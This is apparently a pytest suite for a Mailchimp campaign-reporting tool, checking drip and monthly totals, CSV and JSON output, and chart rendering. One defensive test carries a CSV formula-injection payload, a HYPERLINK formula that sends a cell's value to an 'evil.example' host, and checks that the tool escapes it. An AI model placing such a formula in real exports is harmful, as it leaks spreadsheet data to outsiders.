"""The marketer's report over a demo run with seeded engagement: per drip step and month, as Mailchimp counts."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil

import pytest

from conftest import REPO, copy_project
from mailpipe.sandbox.campaigns import engagement
from mailpipe.sandbox.server import RunningSandbox
from mailpipe.sandbox.store import Store


@pytest.fixture(scope="module")
def demo_run(tmp_path_factory):
    """The `make run` demo once (its sandbox has opens, clicks and unsubscribes from a fixed seed)."""
    from click.testing import CliRunner

    from mailpipe.cli import main

    project = copy_project(tmp_path_factory.mktemp("report") / "project")
    shutil.copytree(REPO / "demo", project / "demo")
    result = CliRunner().invoke(main, ["--project", str(project), "demo"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return project, result.output


@pytest.fixture
def report_of(demo_run, monkeypatch):
    project, _ = demo_run
    store_path = project / "var/demo/sandbox.sqlite3"

    def run(run_cli, *args):
        with RunningSandbox(store_path) as sandbox:
            monkeypatch.setenv("MAILCHIMP_API_KEY", "k-us1")
            monkeypatch.setenv("MAILCHIMP_SERVER_URL", sandbox.url)
            return run_cli(project, "report", *args), campaign_reports(sandbox.store)

    return run


def campaign_reports(store: Store) -> list[dict]:
    return [store.report(c["id"]) for c in store.list_campaigns({"status": "sent", "count": "1000"})["campaigns"]]


def test_make_run_ends_with_the_report(demo_run):
    _, output = demo_run
    assert (
        "Migraine education series (drip)" in output
        and "funnel:" in output
        and "Apple Mail Privacy Protection" in output
    )


def test_totals_are_the_sum_of_mailchimps_per_campaign_reports_each_counted_once(report_of, run_cli):
    result, per_campaign = report_of(run_cli, "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    steps = {}
    for entry in per_campaign:
        title = entry["campaign_title"]
        key = title.rsplit("-", 3)[0] if title.startswith("mp-e1") else title
        steps.setdefault(key, []).append(entry)
    drip = next(s for s in report["sections"] if s["kind"] == "drip")
    for number, row in enumerate(drip["rows"], start=1):
        mine = steps.get(f"mp-e1-s{number:02d}", [])
        assert row["campaigns"] == len(mine) and row["campaigns"] > 0
        assert row["recipients"] == sum(e["emails_sent"] for e in mine)
        assert row["bounces"] == sum(e["bounces"]["hard_bounces"] for e in mine)
        assert row["unique_opens"] == sum(e["opens"]["unique_opens"] for e in mine)
        assert row["unique_clicks"] == sum(e["clicks"]["unique_subscriber_clicks"] for e in mine)
        assert row["unsubscribes"] == sum(e["unsubscribed"] for e in mine)
        delivered = row["recipients"] - row["bounces"]
        assert row["delivered"] == delivered
        assert row["open_rate"] == round(row["unique_opens"] / delivered, 4) and row["click_rate"] == round(
            row["unique_clicks"] / delivered, 4
        )
    assert sum(r["campaigns"] for r in drip["rows"]) == sum(
        1 for e in per_campaign if e["campaign_title"].startswith("mp-e1")
    )
    monthly = next(s for s in report["sections"] if s["kind"] == "monthly")
    assert [r["label"] for r in monthly["rows"]] == ["2024-05", "2024-06"]
    assert sum(r["unique_opens"] for r in drip["rows"] + monthly["rows"]) > 0, "the seeded sandbox has opens to count"
    assert (
        drip["funnel"]["reached"] == [r["recipients"] for r in drip["rows"]]
        and drip["funnel"]["entered"] >= drip["funnel"]["reached"][0]
    )


def test_the_json_is_stable_and_filters_narrow_it(report_of, run_cli):
    first, _ = report_of(run_cli, "--json")
    again, _ = report_of(run_cli, "--json")
    assert first.stdout == again.stdout
    may = json.loads(report_of(run_cli, "--json", "--from", "2024-04-01", "--to", "2024-05-31")[0].stdout)
    june = json.loads(report_of(run_cli, "--json", "--month", "2024-06")[0].stdout)
    monthly = [next(s for s in r["sections"] if s["kind"] == "monthly") for r in (may, june)]
    assert [r["label"] for r in monthly[0]["rows"]] == ["2024-05"] and [r["label"] for r in monthly[1]["rows"]] == [
        "2024-06"
    ]
    whole = json.loads(first.stdout)
    drip_rows = [next(s for s in r["sections"] if s["kind"] == "drip")["rows"] for r in (may, june, whole)]
    assert [a["recipients"] + b["recipients"] for a, b in zip(drip_rows[0], drip_rows[1], strict=True)] == [
        r["recipients"] for r in drip_rows[2]
    ]
    only = json.loads(report_of(run_cli, "--json", "--drip", "e1")[0].stdout)
    assert [s["kind"] for s in only["sections"]] == ["drip"]
    assert report_of(run_cli, "--drip", "nope")[0].exit_code == 1
    assert report_of(run_cli, "--month", "May")[0].exit_code == 2


def test_the_csv_has_a_line_per_step_and_month(report_of, run_cli):
    result, _ = report_of(run_cli, "--csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 7 + 2 and rows[0]["email"] == "what-causes-migraine"
    for row in rows:  # each rate is its count over the delivered, as Mailchimp's reports count them
        delivered = int(row["delivered"])
        assert delivered > 0 and float(row["click_rate"]) == pytest.approx(
            int(row["unique_clicks"]) / delivered, abs=1e-4
        )
    assert any(
        int(row["unique_clicks"]) for row in rows
    )  # the demo's seed clicks: a rate of 0 everywhere proves nothing


def test_seeded_engagement_is_deterministic_and_near_its_rates():
    reactions = [engagement("s", "mp-e1-s01-2024-05-01", f"p{i}@example.com") for i in range(4000)]
    assert reactions == [engagement("s", "mp-e1-s01-2024-05-01", f"p{i}@example.com") for i in range(4000)]
    bounced = sum(r[0] for r in reactions) / len(reactions)
    opened = sum(1 for r in reactions if r[1]) / len(reactions)
    clicked = sum(1 for r in reactions if r[2]) / len(reactions)
    assert 0.01 < bounced < 0.035 and 0.38 < opened < 0.5 and 0.07 < clicked < 0.15
    assert all(not r[2] or r[1] for r in reactions), "nobody clicks without opening"


def test_the_reports_tab_shows_charts_whose_numbers_match_the_json(demo_run, report_of, run_cli, browser, monkeypatch):
    from mailpipe.preview import PreviewModel
    from mailpipe.preview.server import RunningPreview
    from mailpipe.project import Project

    project, _ = demo_run
    expected = json.loads(report_of(run_cli, "--json")[0].stdout)
    with RunningSandbox(project / "var/demo/sandbox.sqlite3") as sandbox:
        monkeypatch.setenv("MAILCHIMP_API_KEY", "k-us1")
        monkeypatch.setenv("MAILCHIMP_SERVER_URL", sandbox.url)
        with RunningPreview(PreviewModel(Project(project))) as preview:
            page = browser.new_page(viewport={"width": 1280, "height": 900})  # the page's own CSP stays on
            try:
                page.goto(preview.url)
                page.click("#reports-tab")
                page.wait_for_selector("section.report")
                page.screenshot(path=str(REPO / "tests/artifacts/reports-tab.png"), full_page=True)
                for section in expected["sections"]:
                    shown = page.locator(f"#report-{section['code']}")
                    assert shown.locator("svg.chart").count() == (2 if section["kind"] == "drip" else 1)
                    bars = shown.locator("svg.rates rect.click")
                    assert [float(bars.nth(i).get_attribute("data-value")) for i in range(bars.count())] == [
                        r["click_rate"] for r in section["rows"]
                    ]
                    for row in section["rows"]:
                        cells = shown.locator(f"tr[data-label='{row['label']}']")
                        for column in (
                            "campaigns",
                            "recipients",
                            "delivered",
                            "bounces",
                            "unique_clicks",
                            "unique_opens",
                            "unsubscribes",
                        ):
                            assert cells.locator(f"td.{column}").inner_text() == str(row[column]), (
                                section["code"],
                                row["label"],
                                column,
                            )
                    if section["funnel"]:
                        funnel = shown.locator("svg.funnel rect.bar")
                        assert [
                            int(funnel.nth(i).get_attribute("data-value")) for i in range(funnel.count())
                        ] == section["funnel"]["reached"]
            finally:
                page.close()


def test_each_drip_counts_only_its_own_campaigns_and_the_funnel_reads_the_lead_records():
    from pathlib import Path

    from mailpipe.load.campaigns import Drip, DripStep
    from mailpipe.push.mailchimp import CampaignReport, RemoteMember
    from mailpipe.report import Results, build_report

    def drip(code):
        return Drip(
            code,
            code,
            f"Drip {code}",
            "new-consult",
            "09:30",
            "America/Los_Angeles",
            (DripStep("a", 1), DripStep("b", 2)),
            7,
            ("mp-b",),
            Path(f"{code}.yaml"),
        )

    reports = (
        CampaignReport("1", "mp-e1-s01-2024-05-01", "2024-05-01T16:30:00+00:00", 10, 1, 4, 2, 1),
        CampaignReport("2", "mp-e1-s01-2024-05-02", "2024-05-02T16:30:00+00:00", 5, 0, 1, 1, 0),
        CampaignReport("3", "mp-e2-s01-2024-05-02", "2024-05-02T16:30:00+00:00", 7, 0, 0, 0, 0),
        CampaignReport("4", "somebody-else", "2024-05-02T16:30:00+00:00", 99, 0, 0, 0, 0),
    )
    members = (
        RemoteMember("a@x.com", "subscribed", {"MPLOG": "|e1@20240430|"}),
        RemoteMember("b@x.com", "unsubscribed", {"MPLOG": "|e1@20240430|"}),
        RemoteMember("c@x.com", "subscribed", {"MPLOG": "|e1@20240430|"}, ("mp-b",)),
        RemoteMember("d@x.com", "subscribed", {}),
        # unsubscribed and tagged to exit: counted once, as unsubscribed (a person leaves a funnel once)
        RemoteMember("e@x.com", "unsubscribed", {"MPLOG": "|e1@20240430|"}, ("mp-b",)),
    )
    made = build_report(
        Results(reports, {"L": members}), [drip("e1"), drip("e2")], {"new-consult": "L"}, "America/Los_Angeles"
    )
    first, second = made.sections
    assert (first.rows[0].campaigns, first.rows[0].recipients, first.rows[0].bounces, first.rows[0].unique_clicks) == (
        2,
        15,
        1,
        3,
    )
    assert first.rows[0].as_json()["click_rate"] == round(3 / 14, 4) and first.rows[1].campaigns == 0
    assert (second.rows[0].campaigns, second.rows[0].recipients) == (1, 7)
    assert (first.funnel.entered, first.funnel.reached, first.funnel.unsubscribed, first.funnel.exited) == (
        4,
        (15, 0),
        2,
        1,
    )
    may_second = build_report(
        Results(reports, {"L": members}),
        [drip("e1")],
        {"new-consult": "L"},
        "America/Los_Angeles",
        start=dt.date(2024, 5, 2),
    )
    assert may_second.sections[0].rows[0].recipients == 5


def test_the_csv_keeps_text_that_starts_like_a_formula_as_text():
    """A campaign (or email) named =HYPERLINK(…) is written with OWASP's leading apostrophe: a spreadsheet shows it and
    runs nothing; numbers and ordinary names are written as they are."""
    from mailpipe.report import Report, Row, Section

    evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    report = Report(
        None,
        None,
        (
            Section(evil, "e1", "drip", (Row("-1 step", "@email", campaigns=2, recipients=10),)),
            Section("Monthly specials", "m1", "monthly", (Row("2024-05", "specials-2024-05", recipients=3),)),
        ),
    )
    rows = list(csv.reader(io.StringIO(report.as_csv())))
    assert rows[1][:5] == ["'" + evil, "'-1 step", "'@email", "2", "10"]
    assert rows[2][:5] == ["Monthly specials", "2024-05", "specials-2024-05", "0", "3"]


def test_make_run_ends_with_commands_that_explore_its_sandbox_and_they_work_as_printed(demo_run, run_cli, monkeypatch):
    """The demo's sandbox lives in var/demo/: the demo says how to look at it, and each line runs as printed (here in
    the project's folder, as `make run` leaves you)."""
    import shlex
    from pathlib import Path

    project, output = demo_run
    lines = output.splitlines()
    at = lines.index("explore the demo's sandbox (it stays until the next `make run`):")
    typed = [shlex.split(line)[1:] for line in lines[at + 1 : at + 3]]  # after the program's name
    monkeypatch.delenv("MAILCHIMP_API_KEY", raising=False)
    monkeypatch.delenv("MAILCHIMP_SERVER_URL", raising=False)
    runs = []
    for args in typed:
        root = Path(args[1]) if args[0] == "--project" else Path.cwd()  # named when it is not the current folder
        args = args[2:] if args[0] == "--project" else args
        runs.append((args[:2], run_cli(root, *args)))
    (deliveries_args, deliveries), (report_args, report) = runs
    assert deliveries_args == ["sandbox", "deliveries"] and report_args == ["report", "--db"]
    assert root.resolve() == project.resolve()
    assert deliveries.exit_code == 0 and deliveries.stdout.count("@example.com") > 20
    assert report.exit_code == 0, report.output
    first = report.stdout.splitlines()[0]
    assert first.startswith("report from the embedded sandbox") and "var/demo/sandbox.sqlite3" in first
    assert "Migraine education series (drip)" in report.stdout and "funnel:" in report.stdout
